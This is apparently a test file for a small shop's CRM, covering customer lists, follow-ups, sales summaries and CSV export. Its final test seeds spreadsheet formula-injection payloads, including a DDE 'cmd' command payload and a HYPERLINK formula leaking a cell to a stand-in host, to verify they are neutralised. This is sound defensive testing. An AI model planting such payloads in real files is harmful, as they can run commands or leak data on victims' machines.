import { parse } from 'csv-parse/sync';
import type { CsvExport, Customer, CustomerPage, FollowUp, SalesSummary } from '../../types/crm';
import type { Order } from '../../types/order';
import type { Product } from '../../types/product';
import type { Shop } from '../../types/shop';
import { handClock, hostPerFile } from './helpers/host';

const clock = handClock('2026-11-23T02:00:00Z');
const DAY = 86_400_000;
const host = hostPerFile({ clock });

let n = 0;
async function shopWithSales() {
  const owner = `crm-owner-${++n}`;
  const shop = await host.ok<Shop>('shop', { action: 'open', name: `回头客店${n}` }, owner);
  await host.ok('shop', { action: 'update', payment: { transferNote: '转账到微信号 crm' } }, owner);
  const walnut = await host.ok<Product>('catalog', { action: 'create', title: '核桃, "薄皮"', priceFen: 6800, stock: 99, story: '故事' }, owner);
  const honey = await host.ok<Product>('catalog', { action: 'create', title: '土蜂蜜', priceFen: 5800, stock: 99, story: '故事' }, owner);
  async function buy(buyer: string, name: string, product: Product, qty: number, upTo: 'completed' | 'paid' | 'cancelled' = 'completed') {
    clock.t += 60_000; // each purchase a minute after the last, so "most recent first" is well defined
    const order = await host.ok<Order>(
      'order',
      { action: 'create', shopId: shop.id, items: [{ productId: product.id, qty }], address: { name, phone: '13800138000', detail: '北京市朝阳区, 三里屯 "1号"' }, idempotencyKey: `crm-${Math.random().toString(36).slice(2)}` },
      buyer,
    );
    if (upTo === 'cancelled') return host.ok<Order>('order', { action: 'cancel', orderId: order.id }, buyer);
    await host.ok('order', { action: 'pay', orderId: order.id, method: 'transfer' }, buyer);
    await host.ok('order', { action: 'confirmPaid', orderId: order.id }, owner);
    if (upTo === 'paid') return order;
    await host.ok('order', { action: 'ship', orderId: order.id, carrier: '顺丰', trackingNo: 'SF77' }, owner);
    return host.ok<Order>('order', { action: 'confirmReceipt', orderId: order.id }, buyer);
  }
  return { owner, shop, walnut, honey, buy };
}

describe('customers', () => {
  it('are derived from orders, with their numbers, notes and tags, searchable', async () => {
    const s = await shopWithSales();
    await s.buy('crm-alice', '张阿姨', s.walnut, 2);
    await s.buy('crm-alice', '张阿姨', s.honey, 1, 'paid');
    await s.buy('crm-bob', '小李', s.honey, 1, 'cancelled');
    const page = await host.ok<CustomerPage>('crm', { action: 'list' }, s.owner);
    expect(page.customers.map((c) => [c.name, c.orders, c.totalFen])).toEqual([
      ['小李', 0, 0],
      ['张阿姨', 2, 2 * 6800 + 5800],
    ]);
    const alice = page.customers[1];
    expect(JSON.stringify(page)).not.toContain('crm-alice'); // never the buyer's WeChat id

    expect(await host.ok<Customer>('crm', { action: 'note', customerId: alice.id, note: '喜欢不太甜的，周末在家' }, s.owner)).toMatchObject({ note: '喜欢不太甜的，周末在家' });
    expect(await host.ok<Customer>('crm', { action: 'get', customerId: alice.id }, s.owner)).toMatchObject({ name: '张阿姨', orders: 2, note: '喜欢不太甜的，周末在家' });
    expect(await host.ok<Customer>('crm', { action: 'tag', customerId: alice.id, tags: ['老顾客', '少糖', '老顾客'] }, s.owner)).toMatchObject({ tags: ['老顾客', '少糖'] });
    expect((await host.ok<CustomerPage>('crm', { action: 'list', q: '不太甜' }, s.owner)).customers.map((c) => c.name)).toEqual(['张阿姨']);
    expect((await host.ok<CustomerPage>('crm', { action: 'list', tag: '少糖' }, s.owner)).customers.map((c) => c.name)).toEqual(['张阿姨']);
    expect((await host.ok<CustomerPage>('crm', { action: 'list', q: '小李' }, s.owner)).customers.map((c) => c.name)).toEqual(['小李']);
    expect((await host.ok<CustomerPage>('crm', { action: 'list', q: '%' }, s.owner)).customers).toEqual([]);

    expect((await host.call('crm', { action: 'tag', customerId: alice.id, tags: Array(11).fill('a') }, s.owner)).status).toBe(413);
    expect((await host.call('crm', { action: 'tag', customerId: alice.id, tags: ['这个标签实在是太长了啊啊'] }, s.owner)).status).toBe(413);
    expect((await host.call('crm', { action: 'note', customerId: alice.id, note: '字'.repeat(501) }, s.owner)).status).toBe(413);
    // another seller cannot see or touch this shop's customers
    const other = await shopWithSales();
    expect((await host.ok<CustomerPage>('crm', { action: 'list' }, other.owner)).customers).toEqual([]);
    expect((await host.call('crm', { action: 'note', customerId: alice.id, note: '偷看' }, other.owner)).status).toBe(404);
    expect((await host.call('crm', { action: 'list' }, 'crm-alice')).status).toBe(403);
    expect((await host.call('crm', { action: 'list' })).status).toBe(401);
  });
});

describe('follow-ups', () => {
  it('appear N days after completion, copy-ready, and can be done or snoozed', async () => {
    const s = await shopWithSales();
    await s.buy('crm-carol', '王姐', s.walnut, 1);
    expect(await host.ok<FollowUp[]>('crm', { action: 'followups' }, s.owner)).toEqual([]);
    clock.t += 7 * DAY - 60_000;
    expect(await host.ok<FollowUp[]>('crm', { action: 'followups' }, s.owner)).toEqual([]);
    clock.t += 2 * 60_000;
    const [due] = await host.ok<FollowUp[]>('crm', { action: 'followups' }, s.owner);
    expect(due).toMatchObject({ status: 'due', customerName: '王姐', productTitles: ['核桃, "薄皮"'] });
    expect(due.text).toContain('王姐你好呀');
    expect(due.text).toContain('核桃');

    const snoozed = await host.ok<FollowUp>('crm', { action: 'done', followUpId: due.id, snoozeDays: 3 }, s.owner);
    expect(snoozed.status).toBe('snoozed');
    clock.t += 3 * DAY + 60_000;
    expect((await host.ok<FollowUp[]>('crm', { action: 'followups' }, s.owner)).map((f) => f.status)).toEqual(['due']);
    expect((await host.ok<FollowUp>('crm', { action: 'done', followUpId: due.id }, s.owner)).status).toBe('done');
    expect(await host.ok<FollowUp[]>('crm', { action: 'followups' }, s.owner)).toEqual([]);
    expect((await host.call('crm', { action: 'done', followUpId: due.id, snoozeDays: 31 }, s.owner)).status).toBe(400);
    const other = await shopWithSales();
    expect((await host.call('crm', { action: 'done', followUpId: due.id }, other.owner)).status).toBe(404);
  });

  it('follow the seller’s chosen interval', async () => {
    const s = await shopWithSales();
    await host.ok('shop', { action: 'update', followUpDays: 2 }, s.owner);
    await s.buy('crm-dan', '老周', s.honey, 1);
    clock.t += 2 * DAY + 60_000;
    expect((await host.ok<FollowUp[]>('crm', { action: 'followups' }, s.owner)).map((f) => f.customerName)).toEqual(['老周']);
  });
});

describe('sales summary', () => {
  it('counts only money kept, per day in the shop’s zone, with repeat buyers and best products', async () => {
    const s = await shopWithSales();
    await s.buy('crm-e1', '甲', s.walnut, 3);
    await s.buy('crm-e1', '甲', s.honey, 1);
    await s.buy('crm-e2', '乙', s.honey, 2, 'paid');
    await s.buy('crm-e3', '丙', s.walnut, 5, 'cancelled');
    const sum = await host.ok<SalesSummary>('stats', { action: 'summary' }, s.owner);
    expect(sum).toMatchObject({ days: 30, revenueFen: 3 * 6800 + 5800 + 2 * 5800, orders: 3, buyers: 2, repeatBuyerRate: 0.5 });
    expect(sum.bestProducts.map((p) => [p.title, p.qty])).toEqual([['核桃, "薄皮"', 3], ['土蜂蜜', 3]]);
    expect(sum.daily).toHaveLength(30);
    expect(sum.daily.reduce((a, d) => a + d.revenueFen, 0)).toBe(sum.revenueFen);
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Shanghai' }).format(clock.now());
    expect(sum.daily.at(-1)).toEqual({ date: today, revenueFen: sum.revenueFen, orders: 3 });
    expect((await host.call('stats', { action: 'summary', days: 91 }, s.owner)).status).toBe(400);
  });
});

describe('CSV export', () => {
  it('round-trips Chinese text, commas and quotes through a CSV parser', async () => {
    const s = await shopWithSales();
    await s.buy('crm-f1', '赵, "大哥"', s.walnut, 1);
    const [cust] = (await host.ok<CustomerPage>('crm', { action: 'list' }, s.owner)).customers;
    await host.ok('crm', { action: 'note', customerId: cust.id, note: '说话直，"喜欢"实在的, 别推销' }, s.owner);

    const customers = await host.ok<CsvExport>('export', { action: 'csv', kind: 'customers' }, s.owner);
    expect(customers.filename).toMatch(/^顾客-\d{4}-\d{2}-\d{2}\.csv$/);
    const res = await fetch(new URL(customers.url, host.url));
    const file = Buffer.from(await res.arrayBuffer()).toString('utf8'); // fetch's text() would drop the BOM
    expect(customers.csv).toBe(file); // small: inline too, as before
    expect(file.startsWith('\uFEFF')).toBe(true);
    const rows = parse(file, { bom: true }) as string[][];
    expect(rows[0]).toEqual(['顾客', '订单数', '消费金额（元）', '最近下单', '售后次数', '标签', '备注']);
    expect(rows[1]).toEqual(['赵, "大哥"', '1', '68.00', expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/), '0', '', '说话直，"喜欢"实在的, 别推销']);

    const orders = parse((await host.ok<CsvExport>('export', { action: 'csv', kind: 'orders' }, s.owner)).csv!, { bom: true }) as string[][];
    expect(orders).toHaveLength(2);
    expect(orders[1]).toEqual(expect.arrayContaining(['已完成', '赵, "大哥"', '北京市朝阳区, 三里屯 "1号"', '核桃, "薄皮" ×1', '68.00', '顺丰速运', 'SF77']));
    expect((await host.call('export', { action: 'csv', kind: 'contacts' }, s.owner)).status).toBe(400);
    expect((await host.call('export', { action: 'csv', kind: 'orders' }, 'crm-f1')).status).toBe(403);
  });

  it('never hands a spreadsheet a live formula: formula-leading cells read back with a leading apostrophe, the text intact', async () => {
    const s = await shopWithSales();
    // What a buyer or seller can type (the contract trims, so a leading tab or CR only reaches the database
    // from elsewhere: written directly below), and the full-width signs Apple Numbers normalizes.
    const names = ['=1+1', '+1', '-1', '@SUM(A1:A9)', '=HYPERLINK("a.cn",1)', '＝1+1', '－1', '＋1', '＠SUM(A1)'];
    let i = 0;
    for (const name of names) await s.buy(`crm-formula-${++i}`, name, s.honey, 1, 'paid');
    const cmd = await host.ok<Product>('catalog', { action: 'create', title: "=cmd|' /C calc'!A0", priceFen: 100, stock: 9, story: '故事' }, s.owner);
    await s.buy('crm-formula-cmd', '普通人', cmd, 1, 'paid');
    const leading = await s.buy('crm-formula-tab', '占位', s.honey, 1, 'paid');
    await host.db.query(`UPDATE orders SET address = jsonb_set(address, '{name}', to_jsonb($2::text)), note = $3 WHERE id = $1`, [leading.id, '\t=1+1', '\r=1+1']);
    // A spreadsheet that splits on ';' (Excel in many locales) must still see one cell, not a second one starting with '='.
    const [anyCustomer] = (await host.ok<CustomerPage>('crm', { action: 'list' }, s.owner)).customers;
    await host.ok('crm', { action: 'note', customerId: anyCustomer.id, note: '好人;=1+1' }, s.owner);
    const [, other] = (await host.ok<CustomerPage>('crm', { action: 'list' }, s.owner)).customers;
    await host.ok('crm', { action: 'note', customerId: other.id, note: '=HYPERLINK("https://x.example/?"&A2,"点我看详情")' }, s.owner);
    await host.ok('crm', { action: 'tag', customerId: anyCustomer.id, tags: ['-VIP'] }, s.owner);

    const orders = parse((await host.ok<CsvExport>('export', { action: 'csv', kind: 'orders' }, s.owner)).csv!, { bom: true }) as string[][];
    const nameColumn = orders[0].indexOf('收货人');
    const exported = orders.slice(1).map((row) => row[nameColumn]);
    for (const name of names) expect(exported).toContain(`'${name}`);
    expect(exported).toContain("'\t=1+1");
    expect(orders.find((row) => row[nameColumn] === "'\t=1+1")).toContain("'\r=1+1"); // the note
    expect(orders.find((row) => row[nameColumn] === '普通人')).toContain(`'=cmd|' /C calc'!A0 ×1`); // the items
    // Nothing formula-leading is left anywhere, and plain cells are untouched.
    for (const row of orders) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    expect(orders.find((row) => row[nameColumn] === '普通人')).toEqual(expect.arrayContaining(['待发货', '普通人', '13800138000', '1.00']));

    const file = (await host.ok<CsvExport>('export', { action: 'csv', kind: 'customers' }, s.owner)).csv!;
    const customers = parse(file, { bom: true }) as string[][];
    for (const name of names) expect(customers.map((row) => row[0])).toContain(`'${name}`);
    const noted = customers.find((row) => row[6] === '好人;=1+1');
    expect(noted?.[5]).toBe("'-VIP");
    expect(file).toContain('"好人;=1+1"');
    expect(customers.map((row) => row[6])).toContain(`'=HYPERLINK("https://x.example/?"&A2,"点我看详情")`);
    for (const row of customers) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });
});
